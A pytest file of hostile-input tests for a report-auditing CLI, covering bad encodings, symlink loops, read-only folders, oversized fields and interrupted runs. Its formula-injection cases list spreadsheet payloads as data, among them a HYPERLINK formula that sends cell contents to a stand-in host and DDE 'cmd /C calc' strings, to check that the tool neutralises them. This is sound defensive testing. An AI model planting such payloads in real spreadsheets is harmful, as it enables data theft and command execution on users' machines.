"""Hostile tries against ``gkcheck audit`` (issue 12, area ``audit``), each run as a user would.

The matrix (:data:`CASES`) runs the CLI on one hostile input each, with its exit code, message,
time and memory bounds, and checks of the output folder. The process tests below it kill or
interrupt a running audit at each phase.
"""

from __future__ import annotations

import csv
import fcntl
import hashlib
import json
import os
import re
import signal
import sqlite3
import struct
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from checker.errors import InputError
from hostile.harness import Case, Run, run_case, run_gkcheck

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "examples" / "clean-report-2024.json"
DEFECTIVE = ROOT / "examples" / "defective-report-2024.json"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# --------------------------------------------------------------------------- building inputs


def _doc(name: str, source: Path = EXAMPLE) -> dict[str, Any]:
    doc = json.loads(source.read_text(encoding="utf-8"))
    doc["agency"]["name"] = name
    return doc


def _reports(folder: Path, n: int, prefix: str = "r") -> list[Path]:
    """``n`` valid reports of different bodies (every other one defective, so there are findings)."""
    folder.mkdir(parents=True, exist_ok=True)
    out = []
    for i in range(n):
        doc = _doc(f"示例县第{i}局", DEFECTIVE if i % 2 else EXAMPLE)
        path = folder / f"{prefix}{i:02d}.json"
        path.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
        out.append(path)
    return out


def _write_json_text(path: Path, doc: dict[str, Any], replace: dict[str, str]) -> Path:
    """Write ``doc`` as JSON, then replace placeholders by raw JSON text (e.g. a lone surrogate escape)."""
    text = json.dumps(doc, ensure_ascii=False)
    for old, new in replace.items():
        text = text.replace(old, new)
    path.write_text(text, encoding="utf-8")
    return path


def _audit_args(*inputs: str, out: str = "out", extra: Sequence[str] = ()) -> list[str]:
    return ["audit", *inputs, "-o", out, "-q", "-j", "2", *extra]


def _slow_text(path: Path, megabytes: int = 45) -> Path:
    """A genuine text report padded to ``megabytes`` of narrative: reading it takes many seconds."""
    doc = json.loads(EXAMPLE.read_text(encoding="utf-8"))
    lines = [doc["title"], f"（{doc['agency']['name']}）"]
    for key, section in doc["sections"].items():
        lines.append(section.get("heading", key))
        lines.append(section.get("text", ""))
    line = "本机关持续推进政府信息公开工作，不断完善制度，提升公开质量，主动回应社会关切。" * 2 + "\n"
    pad = line * (megabytes * 2**20 // len(line.encode()))
    path.write_text("\n".join(lines) + "\n" + pad, encoding="utf-8")
    return path


# --------------------------------------------------------------------------- reading outputs


def _csv_rows(path: Path) -> list[list[str]]:
    csv.field_size_limit(10**7)
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _problems(folder: Path) -> list[list[str]]:
    return _csv_rows(folder / "out" / "problems.csv")[1:]


def _problem_of(folder: Path, name: str) -> list[str]:
    rows = [r for r in _problems(folder) if Path(r[0]).name == name]
    assert rows, f"{name} not in problems.csv: {_problems(folder)}"
    return rows[0]


def _ranked(folder: Path) -> dict[str, list[str]]:
    return {Path(r[14]).name: r for r in _csv_rows(folder / "out" / "ranking.csv")[1:]}


def _manifest_matches(out: Path) -> None:
    manifest = json.loads((out / ".gkcheck-outputs.json").read_text(encoding="utf-8"))
    for name, digest in manifest["files"].items():
        assert hashlib.sha256((out / name).read_bytes()).hexdigest() == digest, name


def _no_formula_cells(out: Path) -> None:
    for path in out.glob("*.csv"):
        for row in _csv_rows(path):
            for cell in row:
                if cell.startswith(FORMULA_START):
                    float(cell)  # only a number may start so (a negative change of score)
    with zipfile.ZipFile(out / "summary.xlsx") as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode("utf-8"), name


def _findings_agree(out: Path) -> None:
    """findings.csv, findings.jsonl and the result files list the same number of findings."""
    csv_rows = len(_csv_rows(out / "findings.csv")) - 1
    jsonl = len((out / "findings.jsonl").read_text(encoding="utf-8").splitlines())
    ranked = _csv_rows(out / "ranking.csv")[1:]
    results = sum(len(json.loads((out / r[15]).read_text(encoding="utf-8"))["findings"]) for r in ranked)
    assert csv_rows == jsonl == results > 0, (csv_rows, jsonl, results)


def _checks(*fns: Callable[[Run, Path], None]) -> Callable[[Run, Path], None]:
    def run_all(run: Run, folder: Path) -> None:
        for fn in fns:
            fn(run, folder)
    return run_all


def _again(args: Sequence[str], **kw: Any) -> Run:
    """Run gkcheck again in a case's folder (as its check)."""
    return run_gkcheck(args, cwd=kw.pop("cwd"), seconds=kw.pop("seconds", 60), env=kw.pop("env", None))


# --------------------------------------------------------------------------- 1: one bad file


def _surrogate_agency(folder: Path) -> list[str]:
    _reports(folder / "in", 6)
    _write_json_text(folder / "in" / "bad.json", _doc("PLACEHOLDER局"), {"PLACEHOLDER": "\\ud800"})
    return _audit_args("in")


def _bad_listed_and_rerun_reuses(name: str, good: int) -> Callable[[Run, Path], None]:
    def check(run: Run, folder: Path) -> None:
        assert len(_ranked(folder)) == good
        _problem_of(folder, name)
        again = _again(_audit_args("in"), cwd=folder)
        assert again.returncode == run.returncode, again.output
        assert f"本次检查 0 份，{good} 份沿用数据库结果" in again.stdout, again.output
        assert "结果已是最新" in again.stdout
        _manifest_matches(folder / "out")
    return check


def _surrogate_text(folder: Path) -> list[str]:
    """A lone surrogate in a section's text (not metadata): it reaches the check and the result JSON."""
    _reports(folder / "in", 4)
    doc = _doc("甲局")
    doc["sections"]["other"]["text"] = "PLACEHOLDER"
    _write_json_text(folder / "in" / "bad.json", doc, {"PLACEHOLDER": "本年度无其他事项\\udc80。"})
    return _audit_args("in")


def _every_report_bad(folder: Path) -> list[str]:
    (folder / "in").mkdir()
    for i in range(3):
        _write_json_text(folder / "in" / f"bad{i}.json", _doc(f"PLACEHOLDER{i}局"), {"PLACEHOLDER": "\\ud800"})
    return _audit_args("in")


def _non_utf8_file_name(folder: Path) -> list[str]:
    paths = _reports(folder / "in", 2)
    bad_name = os.fsdecode(b"\xb1\xa8\xb8\xe6-gbk.json")  # "报告" in GBK: not UTF-8
    paths[0].rename(folder / "in" / bad_name)
    return _audit_args("in")


def _non_utf8_checked(run: Run, folder: Path) -> None:
    ranked = _csv_rows(folder / "out" / "ranking.csv")[1:]
    assert len(ranked) == 2 and any("\ufffd" in r[14] for r in ranked)
    (folder / "out" / "findings.jsonl").read_text(encoding="utf-8")  # valid UTF-8
    (folder / "out" / "audit.html").read_text(encoding="utf-8")


# --------------------------------------------------------------------------- 3: damaged outputs


def _damaged_output(folder: Path) -> list[str]:
    _reports(folder / "in", 6)
    first = run_gkcheck(_audit_args("in"), cwd=folder, seconds=60)
    assert first.returncode == 1, first.output
    findings = folder / "out" / "findings.csv"
    data = findings.read_bytes()
    findings.write_bytes(data[: len(data) // 3])  # cut short, as a run killed while writing it left it
    return _audit_args("in")


def _rewritten(run: Run, folder: Path) -> None:
    assert "已是最新" not in run.stdout and "结果在" in run.stdout
    _findings_agree(folder / "out")
    _manifest_matches(folder / "out")


# --------------------------------------------------------------------------- 4: rule edits


def _rules_edited(folder: Path) -> list[str]:
    from checker.loader import default_files
    rules = []
    for f in default_files():
        (folder / "rules").mkdir(exist_ok=True)
        (folder / "rules" / f.name).write_bytes(f.read_bytes())
        rules += ["--rules", f"rules/{f.name}"]
    _reports(folder / "in", 4)
    first = run_gkcheck(_audit_args("in", extra=rules), cwd=folder, seconds=60)
    assert "本次检查 4 份" in first.stdout, first.output
    target = folder / "rules" / "tiaoli.yaml"
    text = target.read_text(encoding="utf-8")
    edited = re.sub(r"severity: error", "severity: warning", text, count=1)
    assert edited != text
    target.write_text(edited, encoding="utf-8")  # the same `version:`: only the content changed
    return _audit_args("in", extra=rules)


# --------------------------------------------------------------------------- 5: formula injection

_INJECTIONS = ['=HYPERLINK("http://x.invalid/?"&A1,"点击")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
               "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _formulas(folder: Path) -> list[str]:
    (folder / "in").mkdir()
    for i, name in enumerate(_INJECTIONS):
        (folder / "in" / f"f{i}.json").write_text(json.dumps(_doc(name, DEFECTIVE), ensure_ascii=False), "utf-8")
    return _audit_args("in")


def _formulas_manifest(folder: Path) -> list[str]:
    _reports(folder / "in", 2)
    (folder / "list.csv").write_text("file,agency,region,url\n"
                                     'in/r00.json,=1+1,@SUM(A1),"=HYPERLINK(""http://x.invalid"")"\n'
                                     "in/r01.json,+cmd|' /C calc'!A0,-2+3,https://x.invalid/1\n", encoding="utf-8")
    return _audit_args("list.csv")


def _neutralised(run: Run, folder: Path) -> None:
    _no_formula_cells(folder / "out")
    agencies = {r[1] for r in _csv_rows(folder / "out" / "ranking.csv")[1:]}
    assert any(a.startswith("'=") for a in agencies) and any(a.startswith("'+") for a in agencies), agencies


# --------------------------------------------------------------------------- 7: internal errors → messages


def _symlink_loops(folder: Path) -> list[str]:
    _reports(folder / "in", 3)
    (folder / "in" / "loop-a.json").symlink_to("loop-b.json")
    (folder / "in" / "loop-b.json").symlink_to("loop-a.json")
    (folder / "in" / "sub").mkdir()
    (folder / "in" / "sub" / "up").symlink_to("..")       # a folder link back to its parent
    (folder / "in" / "sub" / "up2").symlink_to("../..")
    return _audit_args("in")


def _symlink_loops_glob(folder: Path) -> list[str]:
    _symlink_loops(folder)
    (folder / "in" / "loop-a.json").unlink()
    (folder / "in" / "loop-b.json").unlink()
    return _audit_args("in/**/*.json")


def _loops_listed(run: Run, folder: Path) -> None:
    assert len(_ranked(folder)) == 3
    assert {Path(r[0]).name for r in _problems(folder)} == {"loop-a.json", "loop-b.json"}


def _glob_once(run: Run, folder: Path) -> None:
    assert len(_ranked(folder)) == 3 and not _problems(folder)


_FS_IOC_GETFLAGS, _FS_IOC_SETFLAGS, _FS_IMMUTABLE_FL = 0x80086601, 0x40086602, 0x10


def _set_immutable(path: Path, on: bool) -> bool:
    """Make ``path`` immutable (root ignores permissions; ext4's immutable flag stops it too)."""
    fd = os.open(path, os.O_RDONLY)
    try:
        flags = struct.unpack("i", fcntl.ioctl(fd, _FS_IOC_GETFLAGS, b"\0" * 4))[0]
        flags = flags | _FS_IMMUTABLE_FL if on else flags & ~_FS_IMMUTABLE_FL
        fcntl.ioctl(fd, _FS_IOC_SETFLAGS, struct.pack("i", flags))
        return True
    except OSError:
        return False
    finally:
        os.close(fd)


def _read_only(path: Path) -> None:
    if os.geteuid() != 0:
        path.chmod(0o555 if path.is_dir() else 0o444)
    elif not _set_immutable(path, True):
        pytest.skip("running as root on a file system without the immutable flag: nothing is read-only")


def _read_only_output(folder: Path) -> list[str]:
    _reports(folder / "in", 2)
    (folder / "out").mkdir()
    _read_only(folder / "out")
    return _audit_args("in")


def _read_only_database(folder: Path) -> list[str]:
    _reports(folder / "in", 2)
    first = run_gkcheck(_audit_args("in", extra=["--db", "db/audit.sqlite"]), cwd=folder, seconds=60)
    assert first.returncode == 1, first.output  # one of the two is defective
    _read_only(folder / "db" / "audit.sqlite")
    _read_only(folder / "db")
    return _audit_args("in", out="out2", extra=["--db", "db/audit.sqlite"])


def _gbk_manifest(folder: Path) -> list[str]:
    _reports(folder / "in", 2)
    (folder / "list.csv").write_bytes("file,agency,region\nin/r00.json,甲县教育局,示例县\nin/r01.json,乙县财政局,示例县\n"
                                      .encode("gbk"))
    return _audit_args("list.csv")


def _gbk_read(run: Run, folder: Path) -> None:
    assert {r[1] for r in _csv_rows(folder / "out" / "ranking.csv")[1:]} == {"甲县教育局", "乙县财政局"}


def _long_row(folder: Path) -> list[str]:
    _reports(folder / "in", 1)
    (folder / "list.csv").write_text("file,agency\nin/r00.json,甲局,多出的一列\n", encoding="utf-8")
    return _audit_args("list.csv")


def _long_field(chars: int) -> Callable[[Path], list[str]]:
    def build(folder: Path) -> list[str]:
        _reports(folder / "in", 1)
        (folder / "list.csv").write_text(f"file,agency\nin/r00.json,{'局' * chars}\n", encoding="utf-8")
        return _audit_args("list.csv")
    return build


def _long_field_kept(run: Run, folder: Path) -> None:
    assert len(_csv_rows(folder / "out" / "ranking.csv")[1][1]) == 200_000


# --------------------------------------------------------------------------- 8: same judgement as check

_BIG = {"int-1e20": 10**20, "float-neg-1e308": -1e308, "float-1.7e308": 1.7e308}


def _big_numbers(folder: Path) -> list[str]:
    _reports(folder / "in", 2)
    for name, value in _BIG.items():
        doc = _doc(f"{name}局", DEFECTIVE)
        doc["tables"]["proactive"]["licensing"]["decisions"] = value
        doc["tables"]["proactive"]["normative_documents"]["in_force"] = value
        (folder / "in" / f"{name}.json").write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    return _audit_args("in")


def _same_as_check(run: Run, folder: Path) -> None:
    from checker import check
    from checker.ingest import read_document
    ranked = _ranked(folder)
    for name in _BIG:
        path = folder / "in" / f"{name}.json"
        try:
            result = check(read_document(path))
        except InputError as exc:  # refused by check: the audit lists it, with the same reason
            assert exc.zh in _problem_of(folder, path.name)[2]
            continue
        assert path.name in ranked, f"{name}: scored by check, not by the audit: {_problems(folder)}"
        assert float(ranked[path.name][6]) == result.score.overall, name


# --------------------------------------------------------------------------- 9: exit codes and counts


def _one_missing(folder: Path) -> list[str]:
    _reports(folder / "in", 2)
    return _audit_args("in", "no-such-folder")


def _missing_named(run: Run, folder: Path) -> None:
    assert len(_ranked(folder)) == 2 and _problem_of(folder, "no-such-folder")[1] == "找不到文件"


def _no_file_column(folder: Path) -> list[str]:
    _reports(folder / "in", 1)
    (folder / "list.csv").write_text("path,agency\nin/r00.json,甲局\n", encoding="utf-8")
    return _audit_args("list.csv")


def _header_only(folder: Path) -> list[str]:
    (folder / "list.csv").write_text("file,agency\n", encoding="utf-8")
    return _audit_args("list.csv")


def _counts_never_negative(folder: Path) -> list[str]:
    _reports(folder / "in", 3)
    for i in range(2):
        doc = _doc(f"乙{i}局")
        doc["sections"]["other"]["text"] = "PLACEHOLDER"
        _write_json_text(folder / "in" / f"bad{i}.json", doc, {"PLACEHOLDER": "无\\udc80"})
    return _audit_args("in")


def _counts_right(run: Run, folder: Path) -> None:
    assert not re.search(r"-\d+ 份", run.stdout), run.stdout
    assert "共检查 3 份报告（本次检查 3 份，0 份沿用数据库结果）" in run.stdout, run.stdout


# --------------------------------------------------------------------------- 12: a file listed twice


def _listed_twice(folder: Path) -> list[str]:
    _reports(folder / "in", 2)
    (folder / "list.csv").write_text("file,agency\nin/r00.json,甲局\nin/r01.json,乙局\nin/r00.json,丙局\n",
                                     encoding="utf-8")
    return _audit_args("list.csv")


def _second_row_listed(run: Run, folder: Path) -> None:
    [row] = [r for r in _problems(folder) if r[1] == "清单重复列出"]
    assert "第 4 行" in row[2] and "第 2 行" in row[2] and len(_ranked(folder)) == 2


# --------------------------------------------------------------------------- time bound


def _over_time_bound(folder: Path) -> list[str]:
    _reports(folder / "in", 3)
    _slow_text(folder / "in" / "slow.txt")
    return _audit_args("in")


def _stopped_and_listed(run: Run, folder: Path) -> None:
    row = _problem_of(folder, "slow.txt")
    assert row[1] == "处理超时" and "GKCHECK_LIMIT_REPORT_SECONDS" in row[2], row
    assert len(_ranked(folder)) == 3
    again = _again(_audit_args("in"), cwd=folder, env={"GKCHECK_LIMIT_REPORT_SECONDS": "2"}, seconds=30)
    assert again.returncode == 1 and "本次检查 0 份" in again.stdout, again.output  # the failure is reused


CASES = [
    # 1. one bad file never stops an audit; it is stored, named, and reused while unchanged
    Case("lone-surrogate-in-agency", _surrogate_agency, 1, ("未能检查 1 份", "problems.csv"), 30, 900,
         check=_bad_listed_and_rerun_reuses("bad.json", 6)),
    Case("lone-surrogate-in-section-text", _surrogate_text, 1, ("未能检查 1 份",), 30, 900,
         check=_bad_listed_and_rerun_reuses("bad.json", 4)),
    Case("file-name-not-utf8", _non_utf8_file_name, 1, ("共检查 2 份报告",), 30, 900, check=_non_utf8_checked),
    Case("every-report-bad", _every_report_bad, 2, ("没有一份报告能够检查",), 30, 900),
    # 3. damaged outputs are never "up to date"
    Case("damaged-output-rewritten", _damaged_output, 1, ("结果在",), 60, 900, check=_rewritten),
    # 4. a rule edited without a new version: every report is checked again
    Case("rule-edited-same-version", _rules_edited, frozenset({0, 1}), ("本次检查 4 份",), 60, 900),
    # 5. formulas in report or manifest values never reach a spreadsheet as formulas
    Case("formula-injection-agency", _formulas, frozenset({0, 1}), (), 30, 900, check=_neutralised),
    Case("formula-injection-manifest", _formulas_manifest, frozenset({0, 1}), (), 30, 900, check=_neutralised),
    # 7. clear messages instead of internal errors
    Case("symlink-loops-in-folder", _symlink_loops, 1, ("未能检查 2 份",), 30, 900, check=_loops_listed),
    Case("symlink-loops-glob", _symlink_loops_glob, frozenset({0, 1}), ("共检查 3 份报告",), 30, 900, check=_glob_once),
    Case("read-only-output-folder", _read_only_output, 2, ("无法写入输出文件夹",), 30, 900),
    Case("read-only-database", _read_only_database, 2, ("无法写入审核数据库",), 60, 900),
    Case("gbk-manifest", _gbk_manifest, frozenset({0, 1}), ("共检查 2 份报告",), 30, 900, check=_gbk_read),
    Case("manifest-row-longer-than-header", _long_row, 2, ("第 2 行有 3 个值",), 30, 900),
    Case("manifest-field-at-limit", _long_field(200_000), frozenset({0, 1}), ("共检查 1 份报告",), 30, 900,
         check=_long_field_kept),
    Case("manifest-field-over-limit", _long_field(200_001), 2, ("第 2 行", "GKCHECK_LIMIT_FIELD_CHARS"), 30, 900),
    # 8. the audit judges a document as check does
    Case("huge-numbers-as-check", _big_numbers, frozenset({0, 1}), (), 60, 900, check=_same_as_check),
    # 9. exit codes and counts
    Case("nonexistent-path", lambda f: _audit_args("no-such-folder"), 2, ("找不到：no-such-folder",), 30, 900),
    Case("one-path-missing", _one_missing, 2, ("找不到：no-such-folder",), 30, 900, check=_missing_named),
    Case("manifest-without-file-column", _no_file_column, 2, ("没有 file 列",), 30, 900),
    Case("manifest-header-only", _header_only, 2, ("没有列出任何报告文件",), 30, 900),
    Case("counts-never-negative", _counts_never_negative, 1, ("未能检查 2 份",), 30, 900, check=_counts_right),
    # 12. a second manifest row for one file is listed
    Case("manifest-lists-a-file-twice", _listed_twice, frozenset({0, 1}), ("清单中有 1 行重复列出",), 30, 900,
         check=_second_row_listed),
    # the per-report time bound: the report is stopped and stored as failed, the audit goes on
    Case("report-over-time-bound", _over_time_bound, 1, ("未能检查 1 份",), 30, 1500,
         env={"GKCHECK_LIMIT_REPORT_SECONDS": "2"}, check=_stopped_and_listed),
]


@pytest.fixture(autouse=True)
def _writable_again(tmp_path: Path) -> Iterator[None]:
    """Undo what a read-only case did, so that the folder can be removed."""
    yield
    for path in [tmp_path, *tmp_path.rglob("*")]:
        if path.is_symlink():
            continue
        if os.geteuid() == 0:
            _set_immutable(path, False)
        else:
            path.chmod(0o755 if path.is_dir() else 0o644)


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
def test_hostile(case: Case, tmp_path: Path) -> None:
    run_case(case, tmp_path)


# --------------------------------------------------------------------------- 11: processes


def _start(args: Sequence[str], cwd: Path, env: dict[str, str] | None = None) -> subprocess.Popen[bytes]:
    code_root = str(ROOT)
    full = {**os.environ, "PYTHONPATH": os.pathsep.join(p for p in (code_root, os.environ.get("PYTHONPATH", "")) if p),
            **(env or {})}
    return subprocess.Popen([sys.executable, "-m", "checker", *args], cwd=cwd, env=full, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, start_new_session=True)


def _group(pgid: int) -> list[int]:
    """Live (not zombie) processes of the process group ``pgid``, found in /proc."""
    out = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            stat = (entry / "stat").read_text()
        except OSError:
            continue
        fields = stat[stat.rindex(")") + 2:].split()
        if int(fields[2]) == pgid and fields[0] != "Z":
            out.append(int(entry.name))
    return out


def _wait_for(test: Callable[[], bool], seconds: float) -> bool:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if test():
            return True
        time.sleep(0.005)
    return test()


def _kill_group(proc: subprocess.Popen[bytes]) -> None:
    try:
        os.killpg(proc.pid, signal.SIGKILL)
    except ProcessLookupError:
        pass
    proc.communicate(timeout=30)


@pytest.fixture
def busy_folder(tmp_path: Path) -> Path:
    """Reports and one that takes many seconds to read (so that the workers are busy)."""
    _reports(tmp_path / "in", 4)
    _slow_text(tmp_path / "in" / "slow.txt")
    return tmp_path


@pytest.mark.parametrize("how", [signal.SIGKILL, signal.SIGTERM])
def test_workers_die_with_the_audit(busy_folder: Path, how: signal.Signals) -> None:
    proc = _start(_audit_args("in"), busy_folder)
    try:
        assert _wait_for(lambda: len(_group(proc.pid)) >= 3, 30), "the workers did not start"
        os.kill(proc.pid, how)  # the main process only, as a user's `kill` does
        proc.wait(timeout=30)
        assert _wait_for(lambda: not _group(proc.pid), 5), f"workers still alive: {_group(proc.pid)}"
        if how == signal.SIGTERM:
            _, err = proc.communicate(timeout=10)
            assert proc.returncode == 143 and "已中断" in err.decode() and "Traceback" not in err.decode()
    finally:
        _kill_group(proc)


def _has_temporary_output(out: Path) -> bool:
    return any(p.name.endswith(".tmp") and p.name.startswith((".summary", ".findings")) for p in out.glob(".*"))


@pytest.mark.parametrize("phase", ["start", "ingest", "outputs"])
def test_ctrl_c_at_any_phase_is_clean_and_resumes(tmp_path: Path, phase: str) -> None:
    # enough reports that the outputs take a while to write (the test catches their temporary files)
    _reports(tmp_path / "in", 200 if phase == "outputs" else 40)
    if phase == "ingest":
        _slow_text(tmp_path / "in" / "slow.txt", 30)
    if phase == "outputs":  # the outputs of an English run, interrupted while they are written
        assert run_gkcheck(_audit_args("in"), cwd=tmp_path, seconds=90).returncode == 1
    proc = _start(_audit_args("in", extra=["--lang", "en"] if phase == "outputs" else []), tmp_path)
    try:
        if phase == "start":
            time.sleep(0.3)
        elif phase == "ingest":
            assert _wait_for(lambda: len(_group(proc.pid)) >= 3, 30)
            time.sleep(0.5)
        else:
            assert _wait_for(lambda: _has_temporary_output(tmp_path / "out"), 90), "outputs never written"
        os.killpg(proc.pid, signal.SIGINT)  # Ctrl-C: the whole foreground group gets it
        out, err = proc.communicate(timeout=60)
    finally:
        _kill_group(proc)
    text = (out + err).decode("utf-8", "replace")
    assert proc.returncode == 130, text
    assert "Traceback" not in text and "内部错误" not in text and "Interrupted" in text or "已中断" in text, text
    assert len([line for line in err.decode().splitlines() if line.strip()]) == 1, text
    assert _wait_for(lambda: not _group(proc.pid), 5)
    assert not _has_temporary_output(tmp_path / "out")
    # the database is consistent and the same command resumes; the outputs are then whole and Chinese
    if (tmp_path / "out" / "audit.sqlite").exists():
        db = sqlite3.connect(tmp_path / "out" / "audit.sqlite")
        assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        db.close()
    again = run_gkcheck(_audit_args("in"), cwd=tmp_path, seconds=120)
    assert again.returncode == 1 and "结果在" in again.stdout, again.output
    assert _csv_rows(tmp_path / "out" / "findings.csv")[0][0] == "文件"
    _findings_agree(tmp_path / "out")
    _manifest_matches(tmp_path / "out")


def test_killed_while_writing_outputs_then_rewritten(tmp_path: Path) -> None:
    """The issue's run: killed (SIGKILL, the whole group) while the outputs are written; the next run
    must not call them up to date, and writes them whole."""
    _reports(tmp_path / "in", 200)  # enough that the outputs take a while to write
    assert run_gkcheck(_audit_args("in"), cwd=tmp_path, seconds=90).returncode == 1
    (tmp_path / "out" / "findings.csv").unlink()  # the next run writes the outputs again
    proc = _start(_audit_args("in"), tmp_path)
    try:
        assert _wait_for(lambda: _has_temporary_output(tmp_path / "out"), 90), "outputs never written"
        os.killpg(proc.pid, signal.SIGKILL)
    finally:
        _kill_group(proc)
    again = run_gkcheck(_audit_args("in"), cwd=tmp_path, seconds=90)
    assert "已是最新" not in again.stdout and "结果在" in again.stdout, again.output
    _findings_agree(tmp_path / "out")
    _manifest_matches(tmp_path / "out")
    assert not _has_temporary_output(tmp_path / "out")
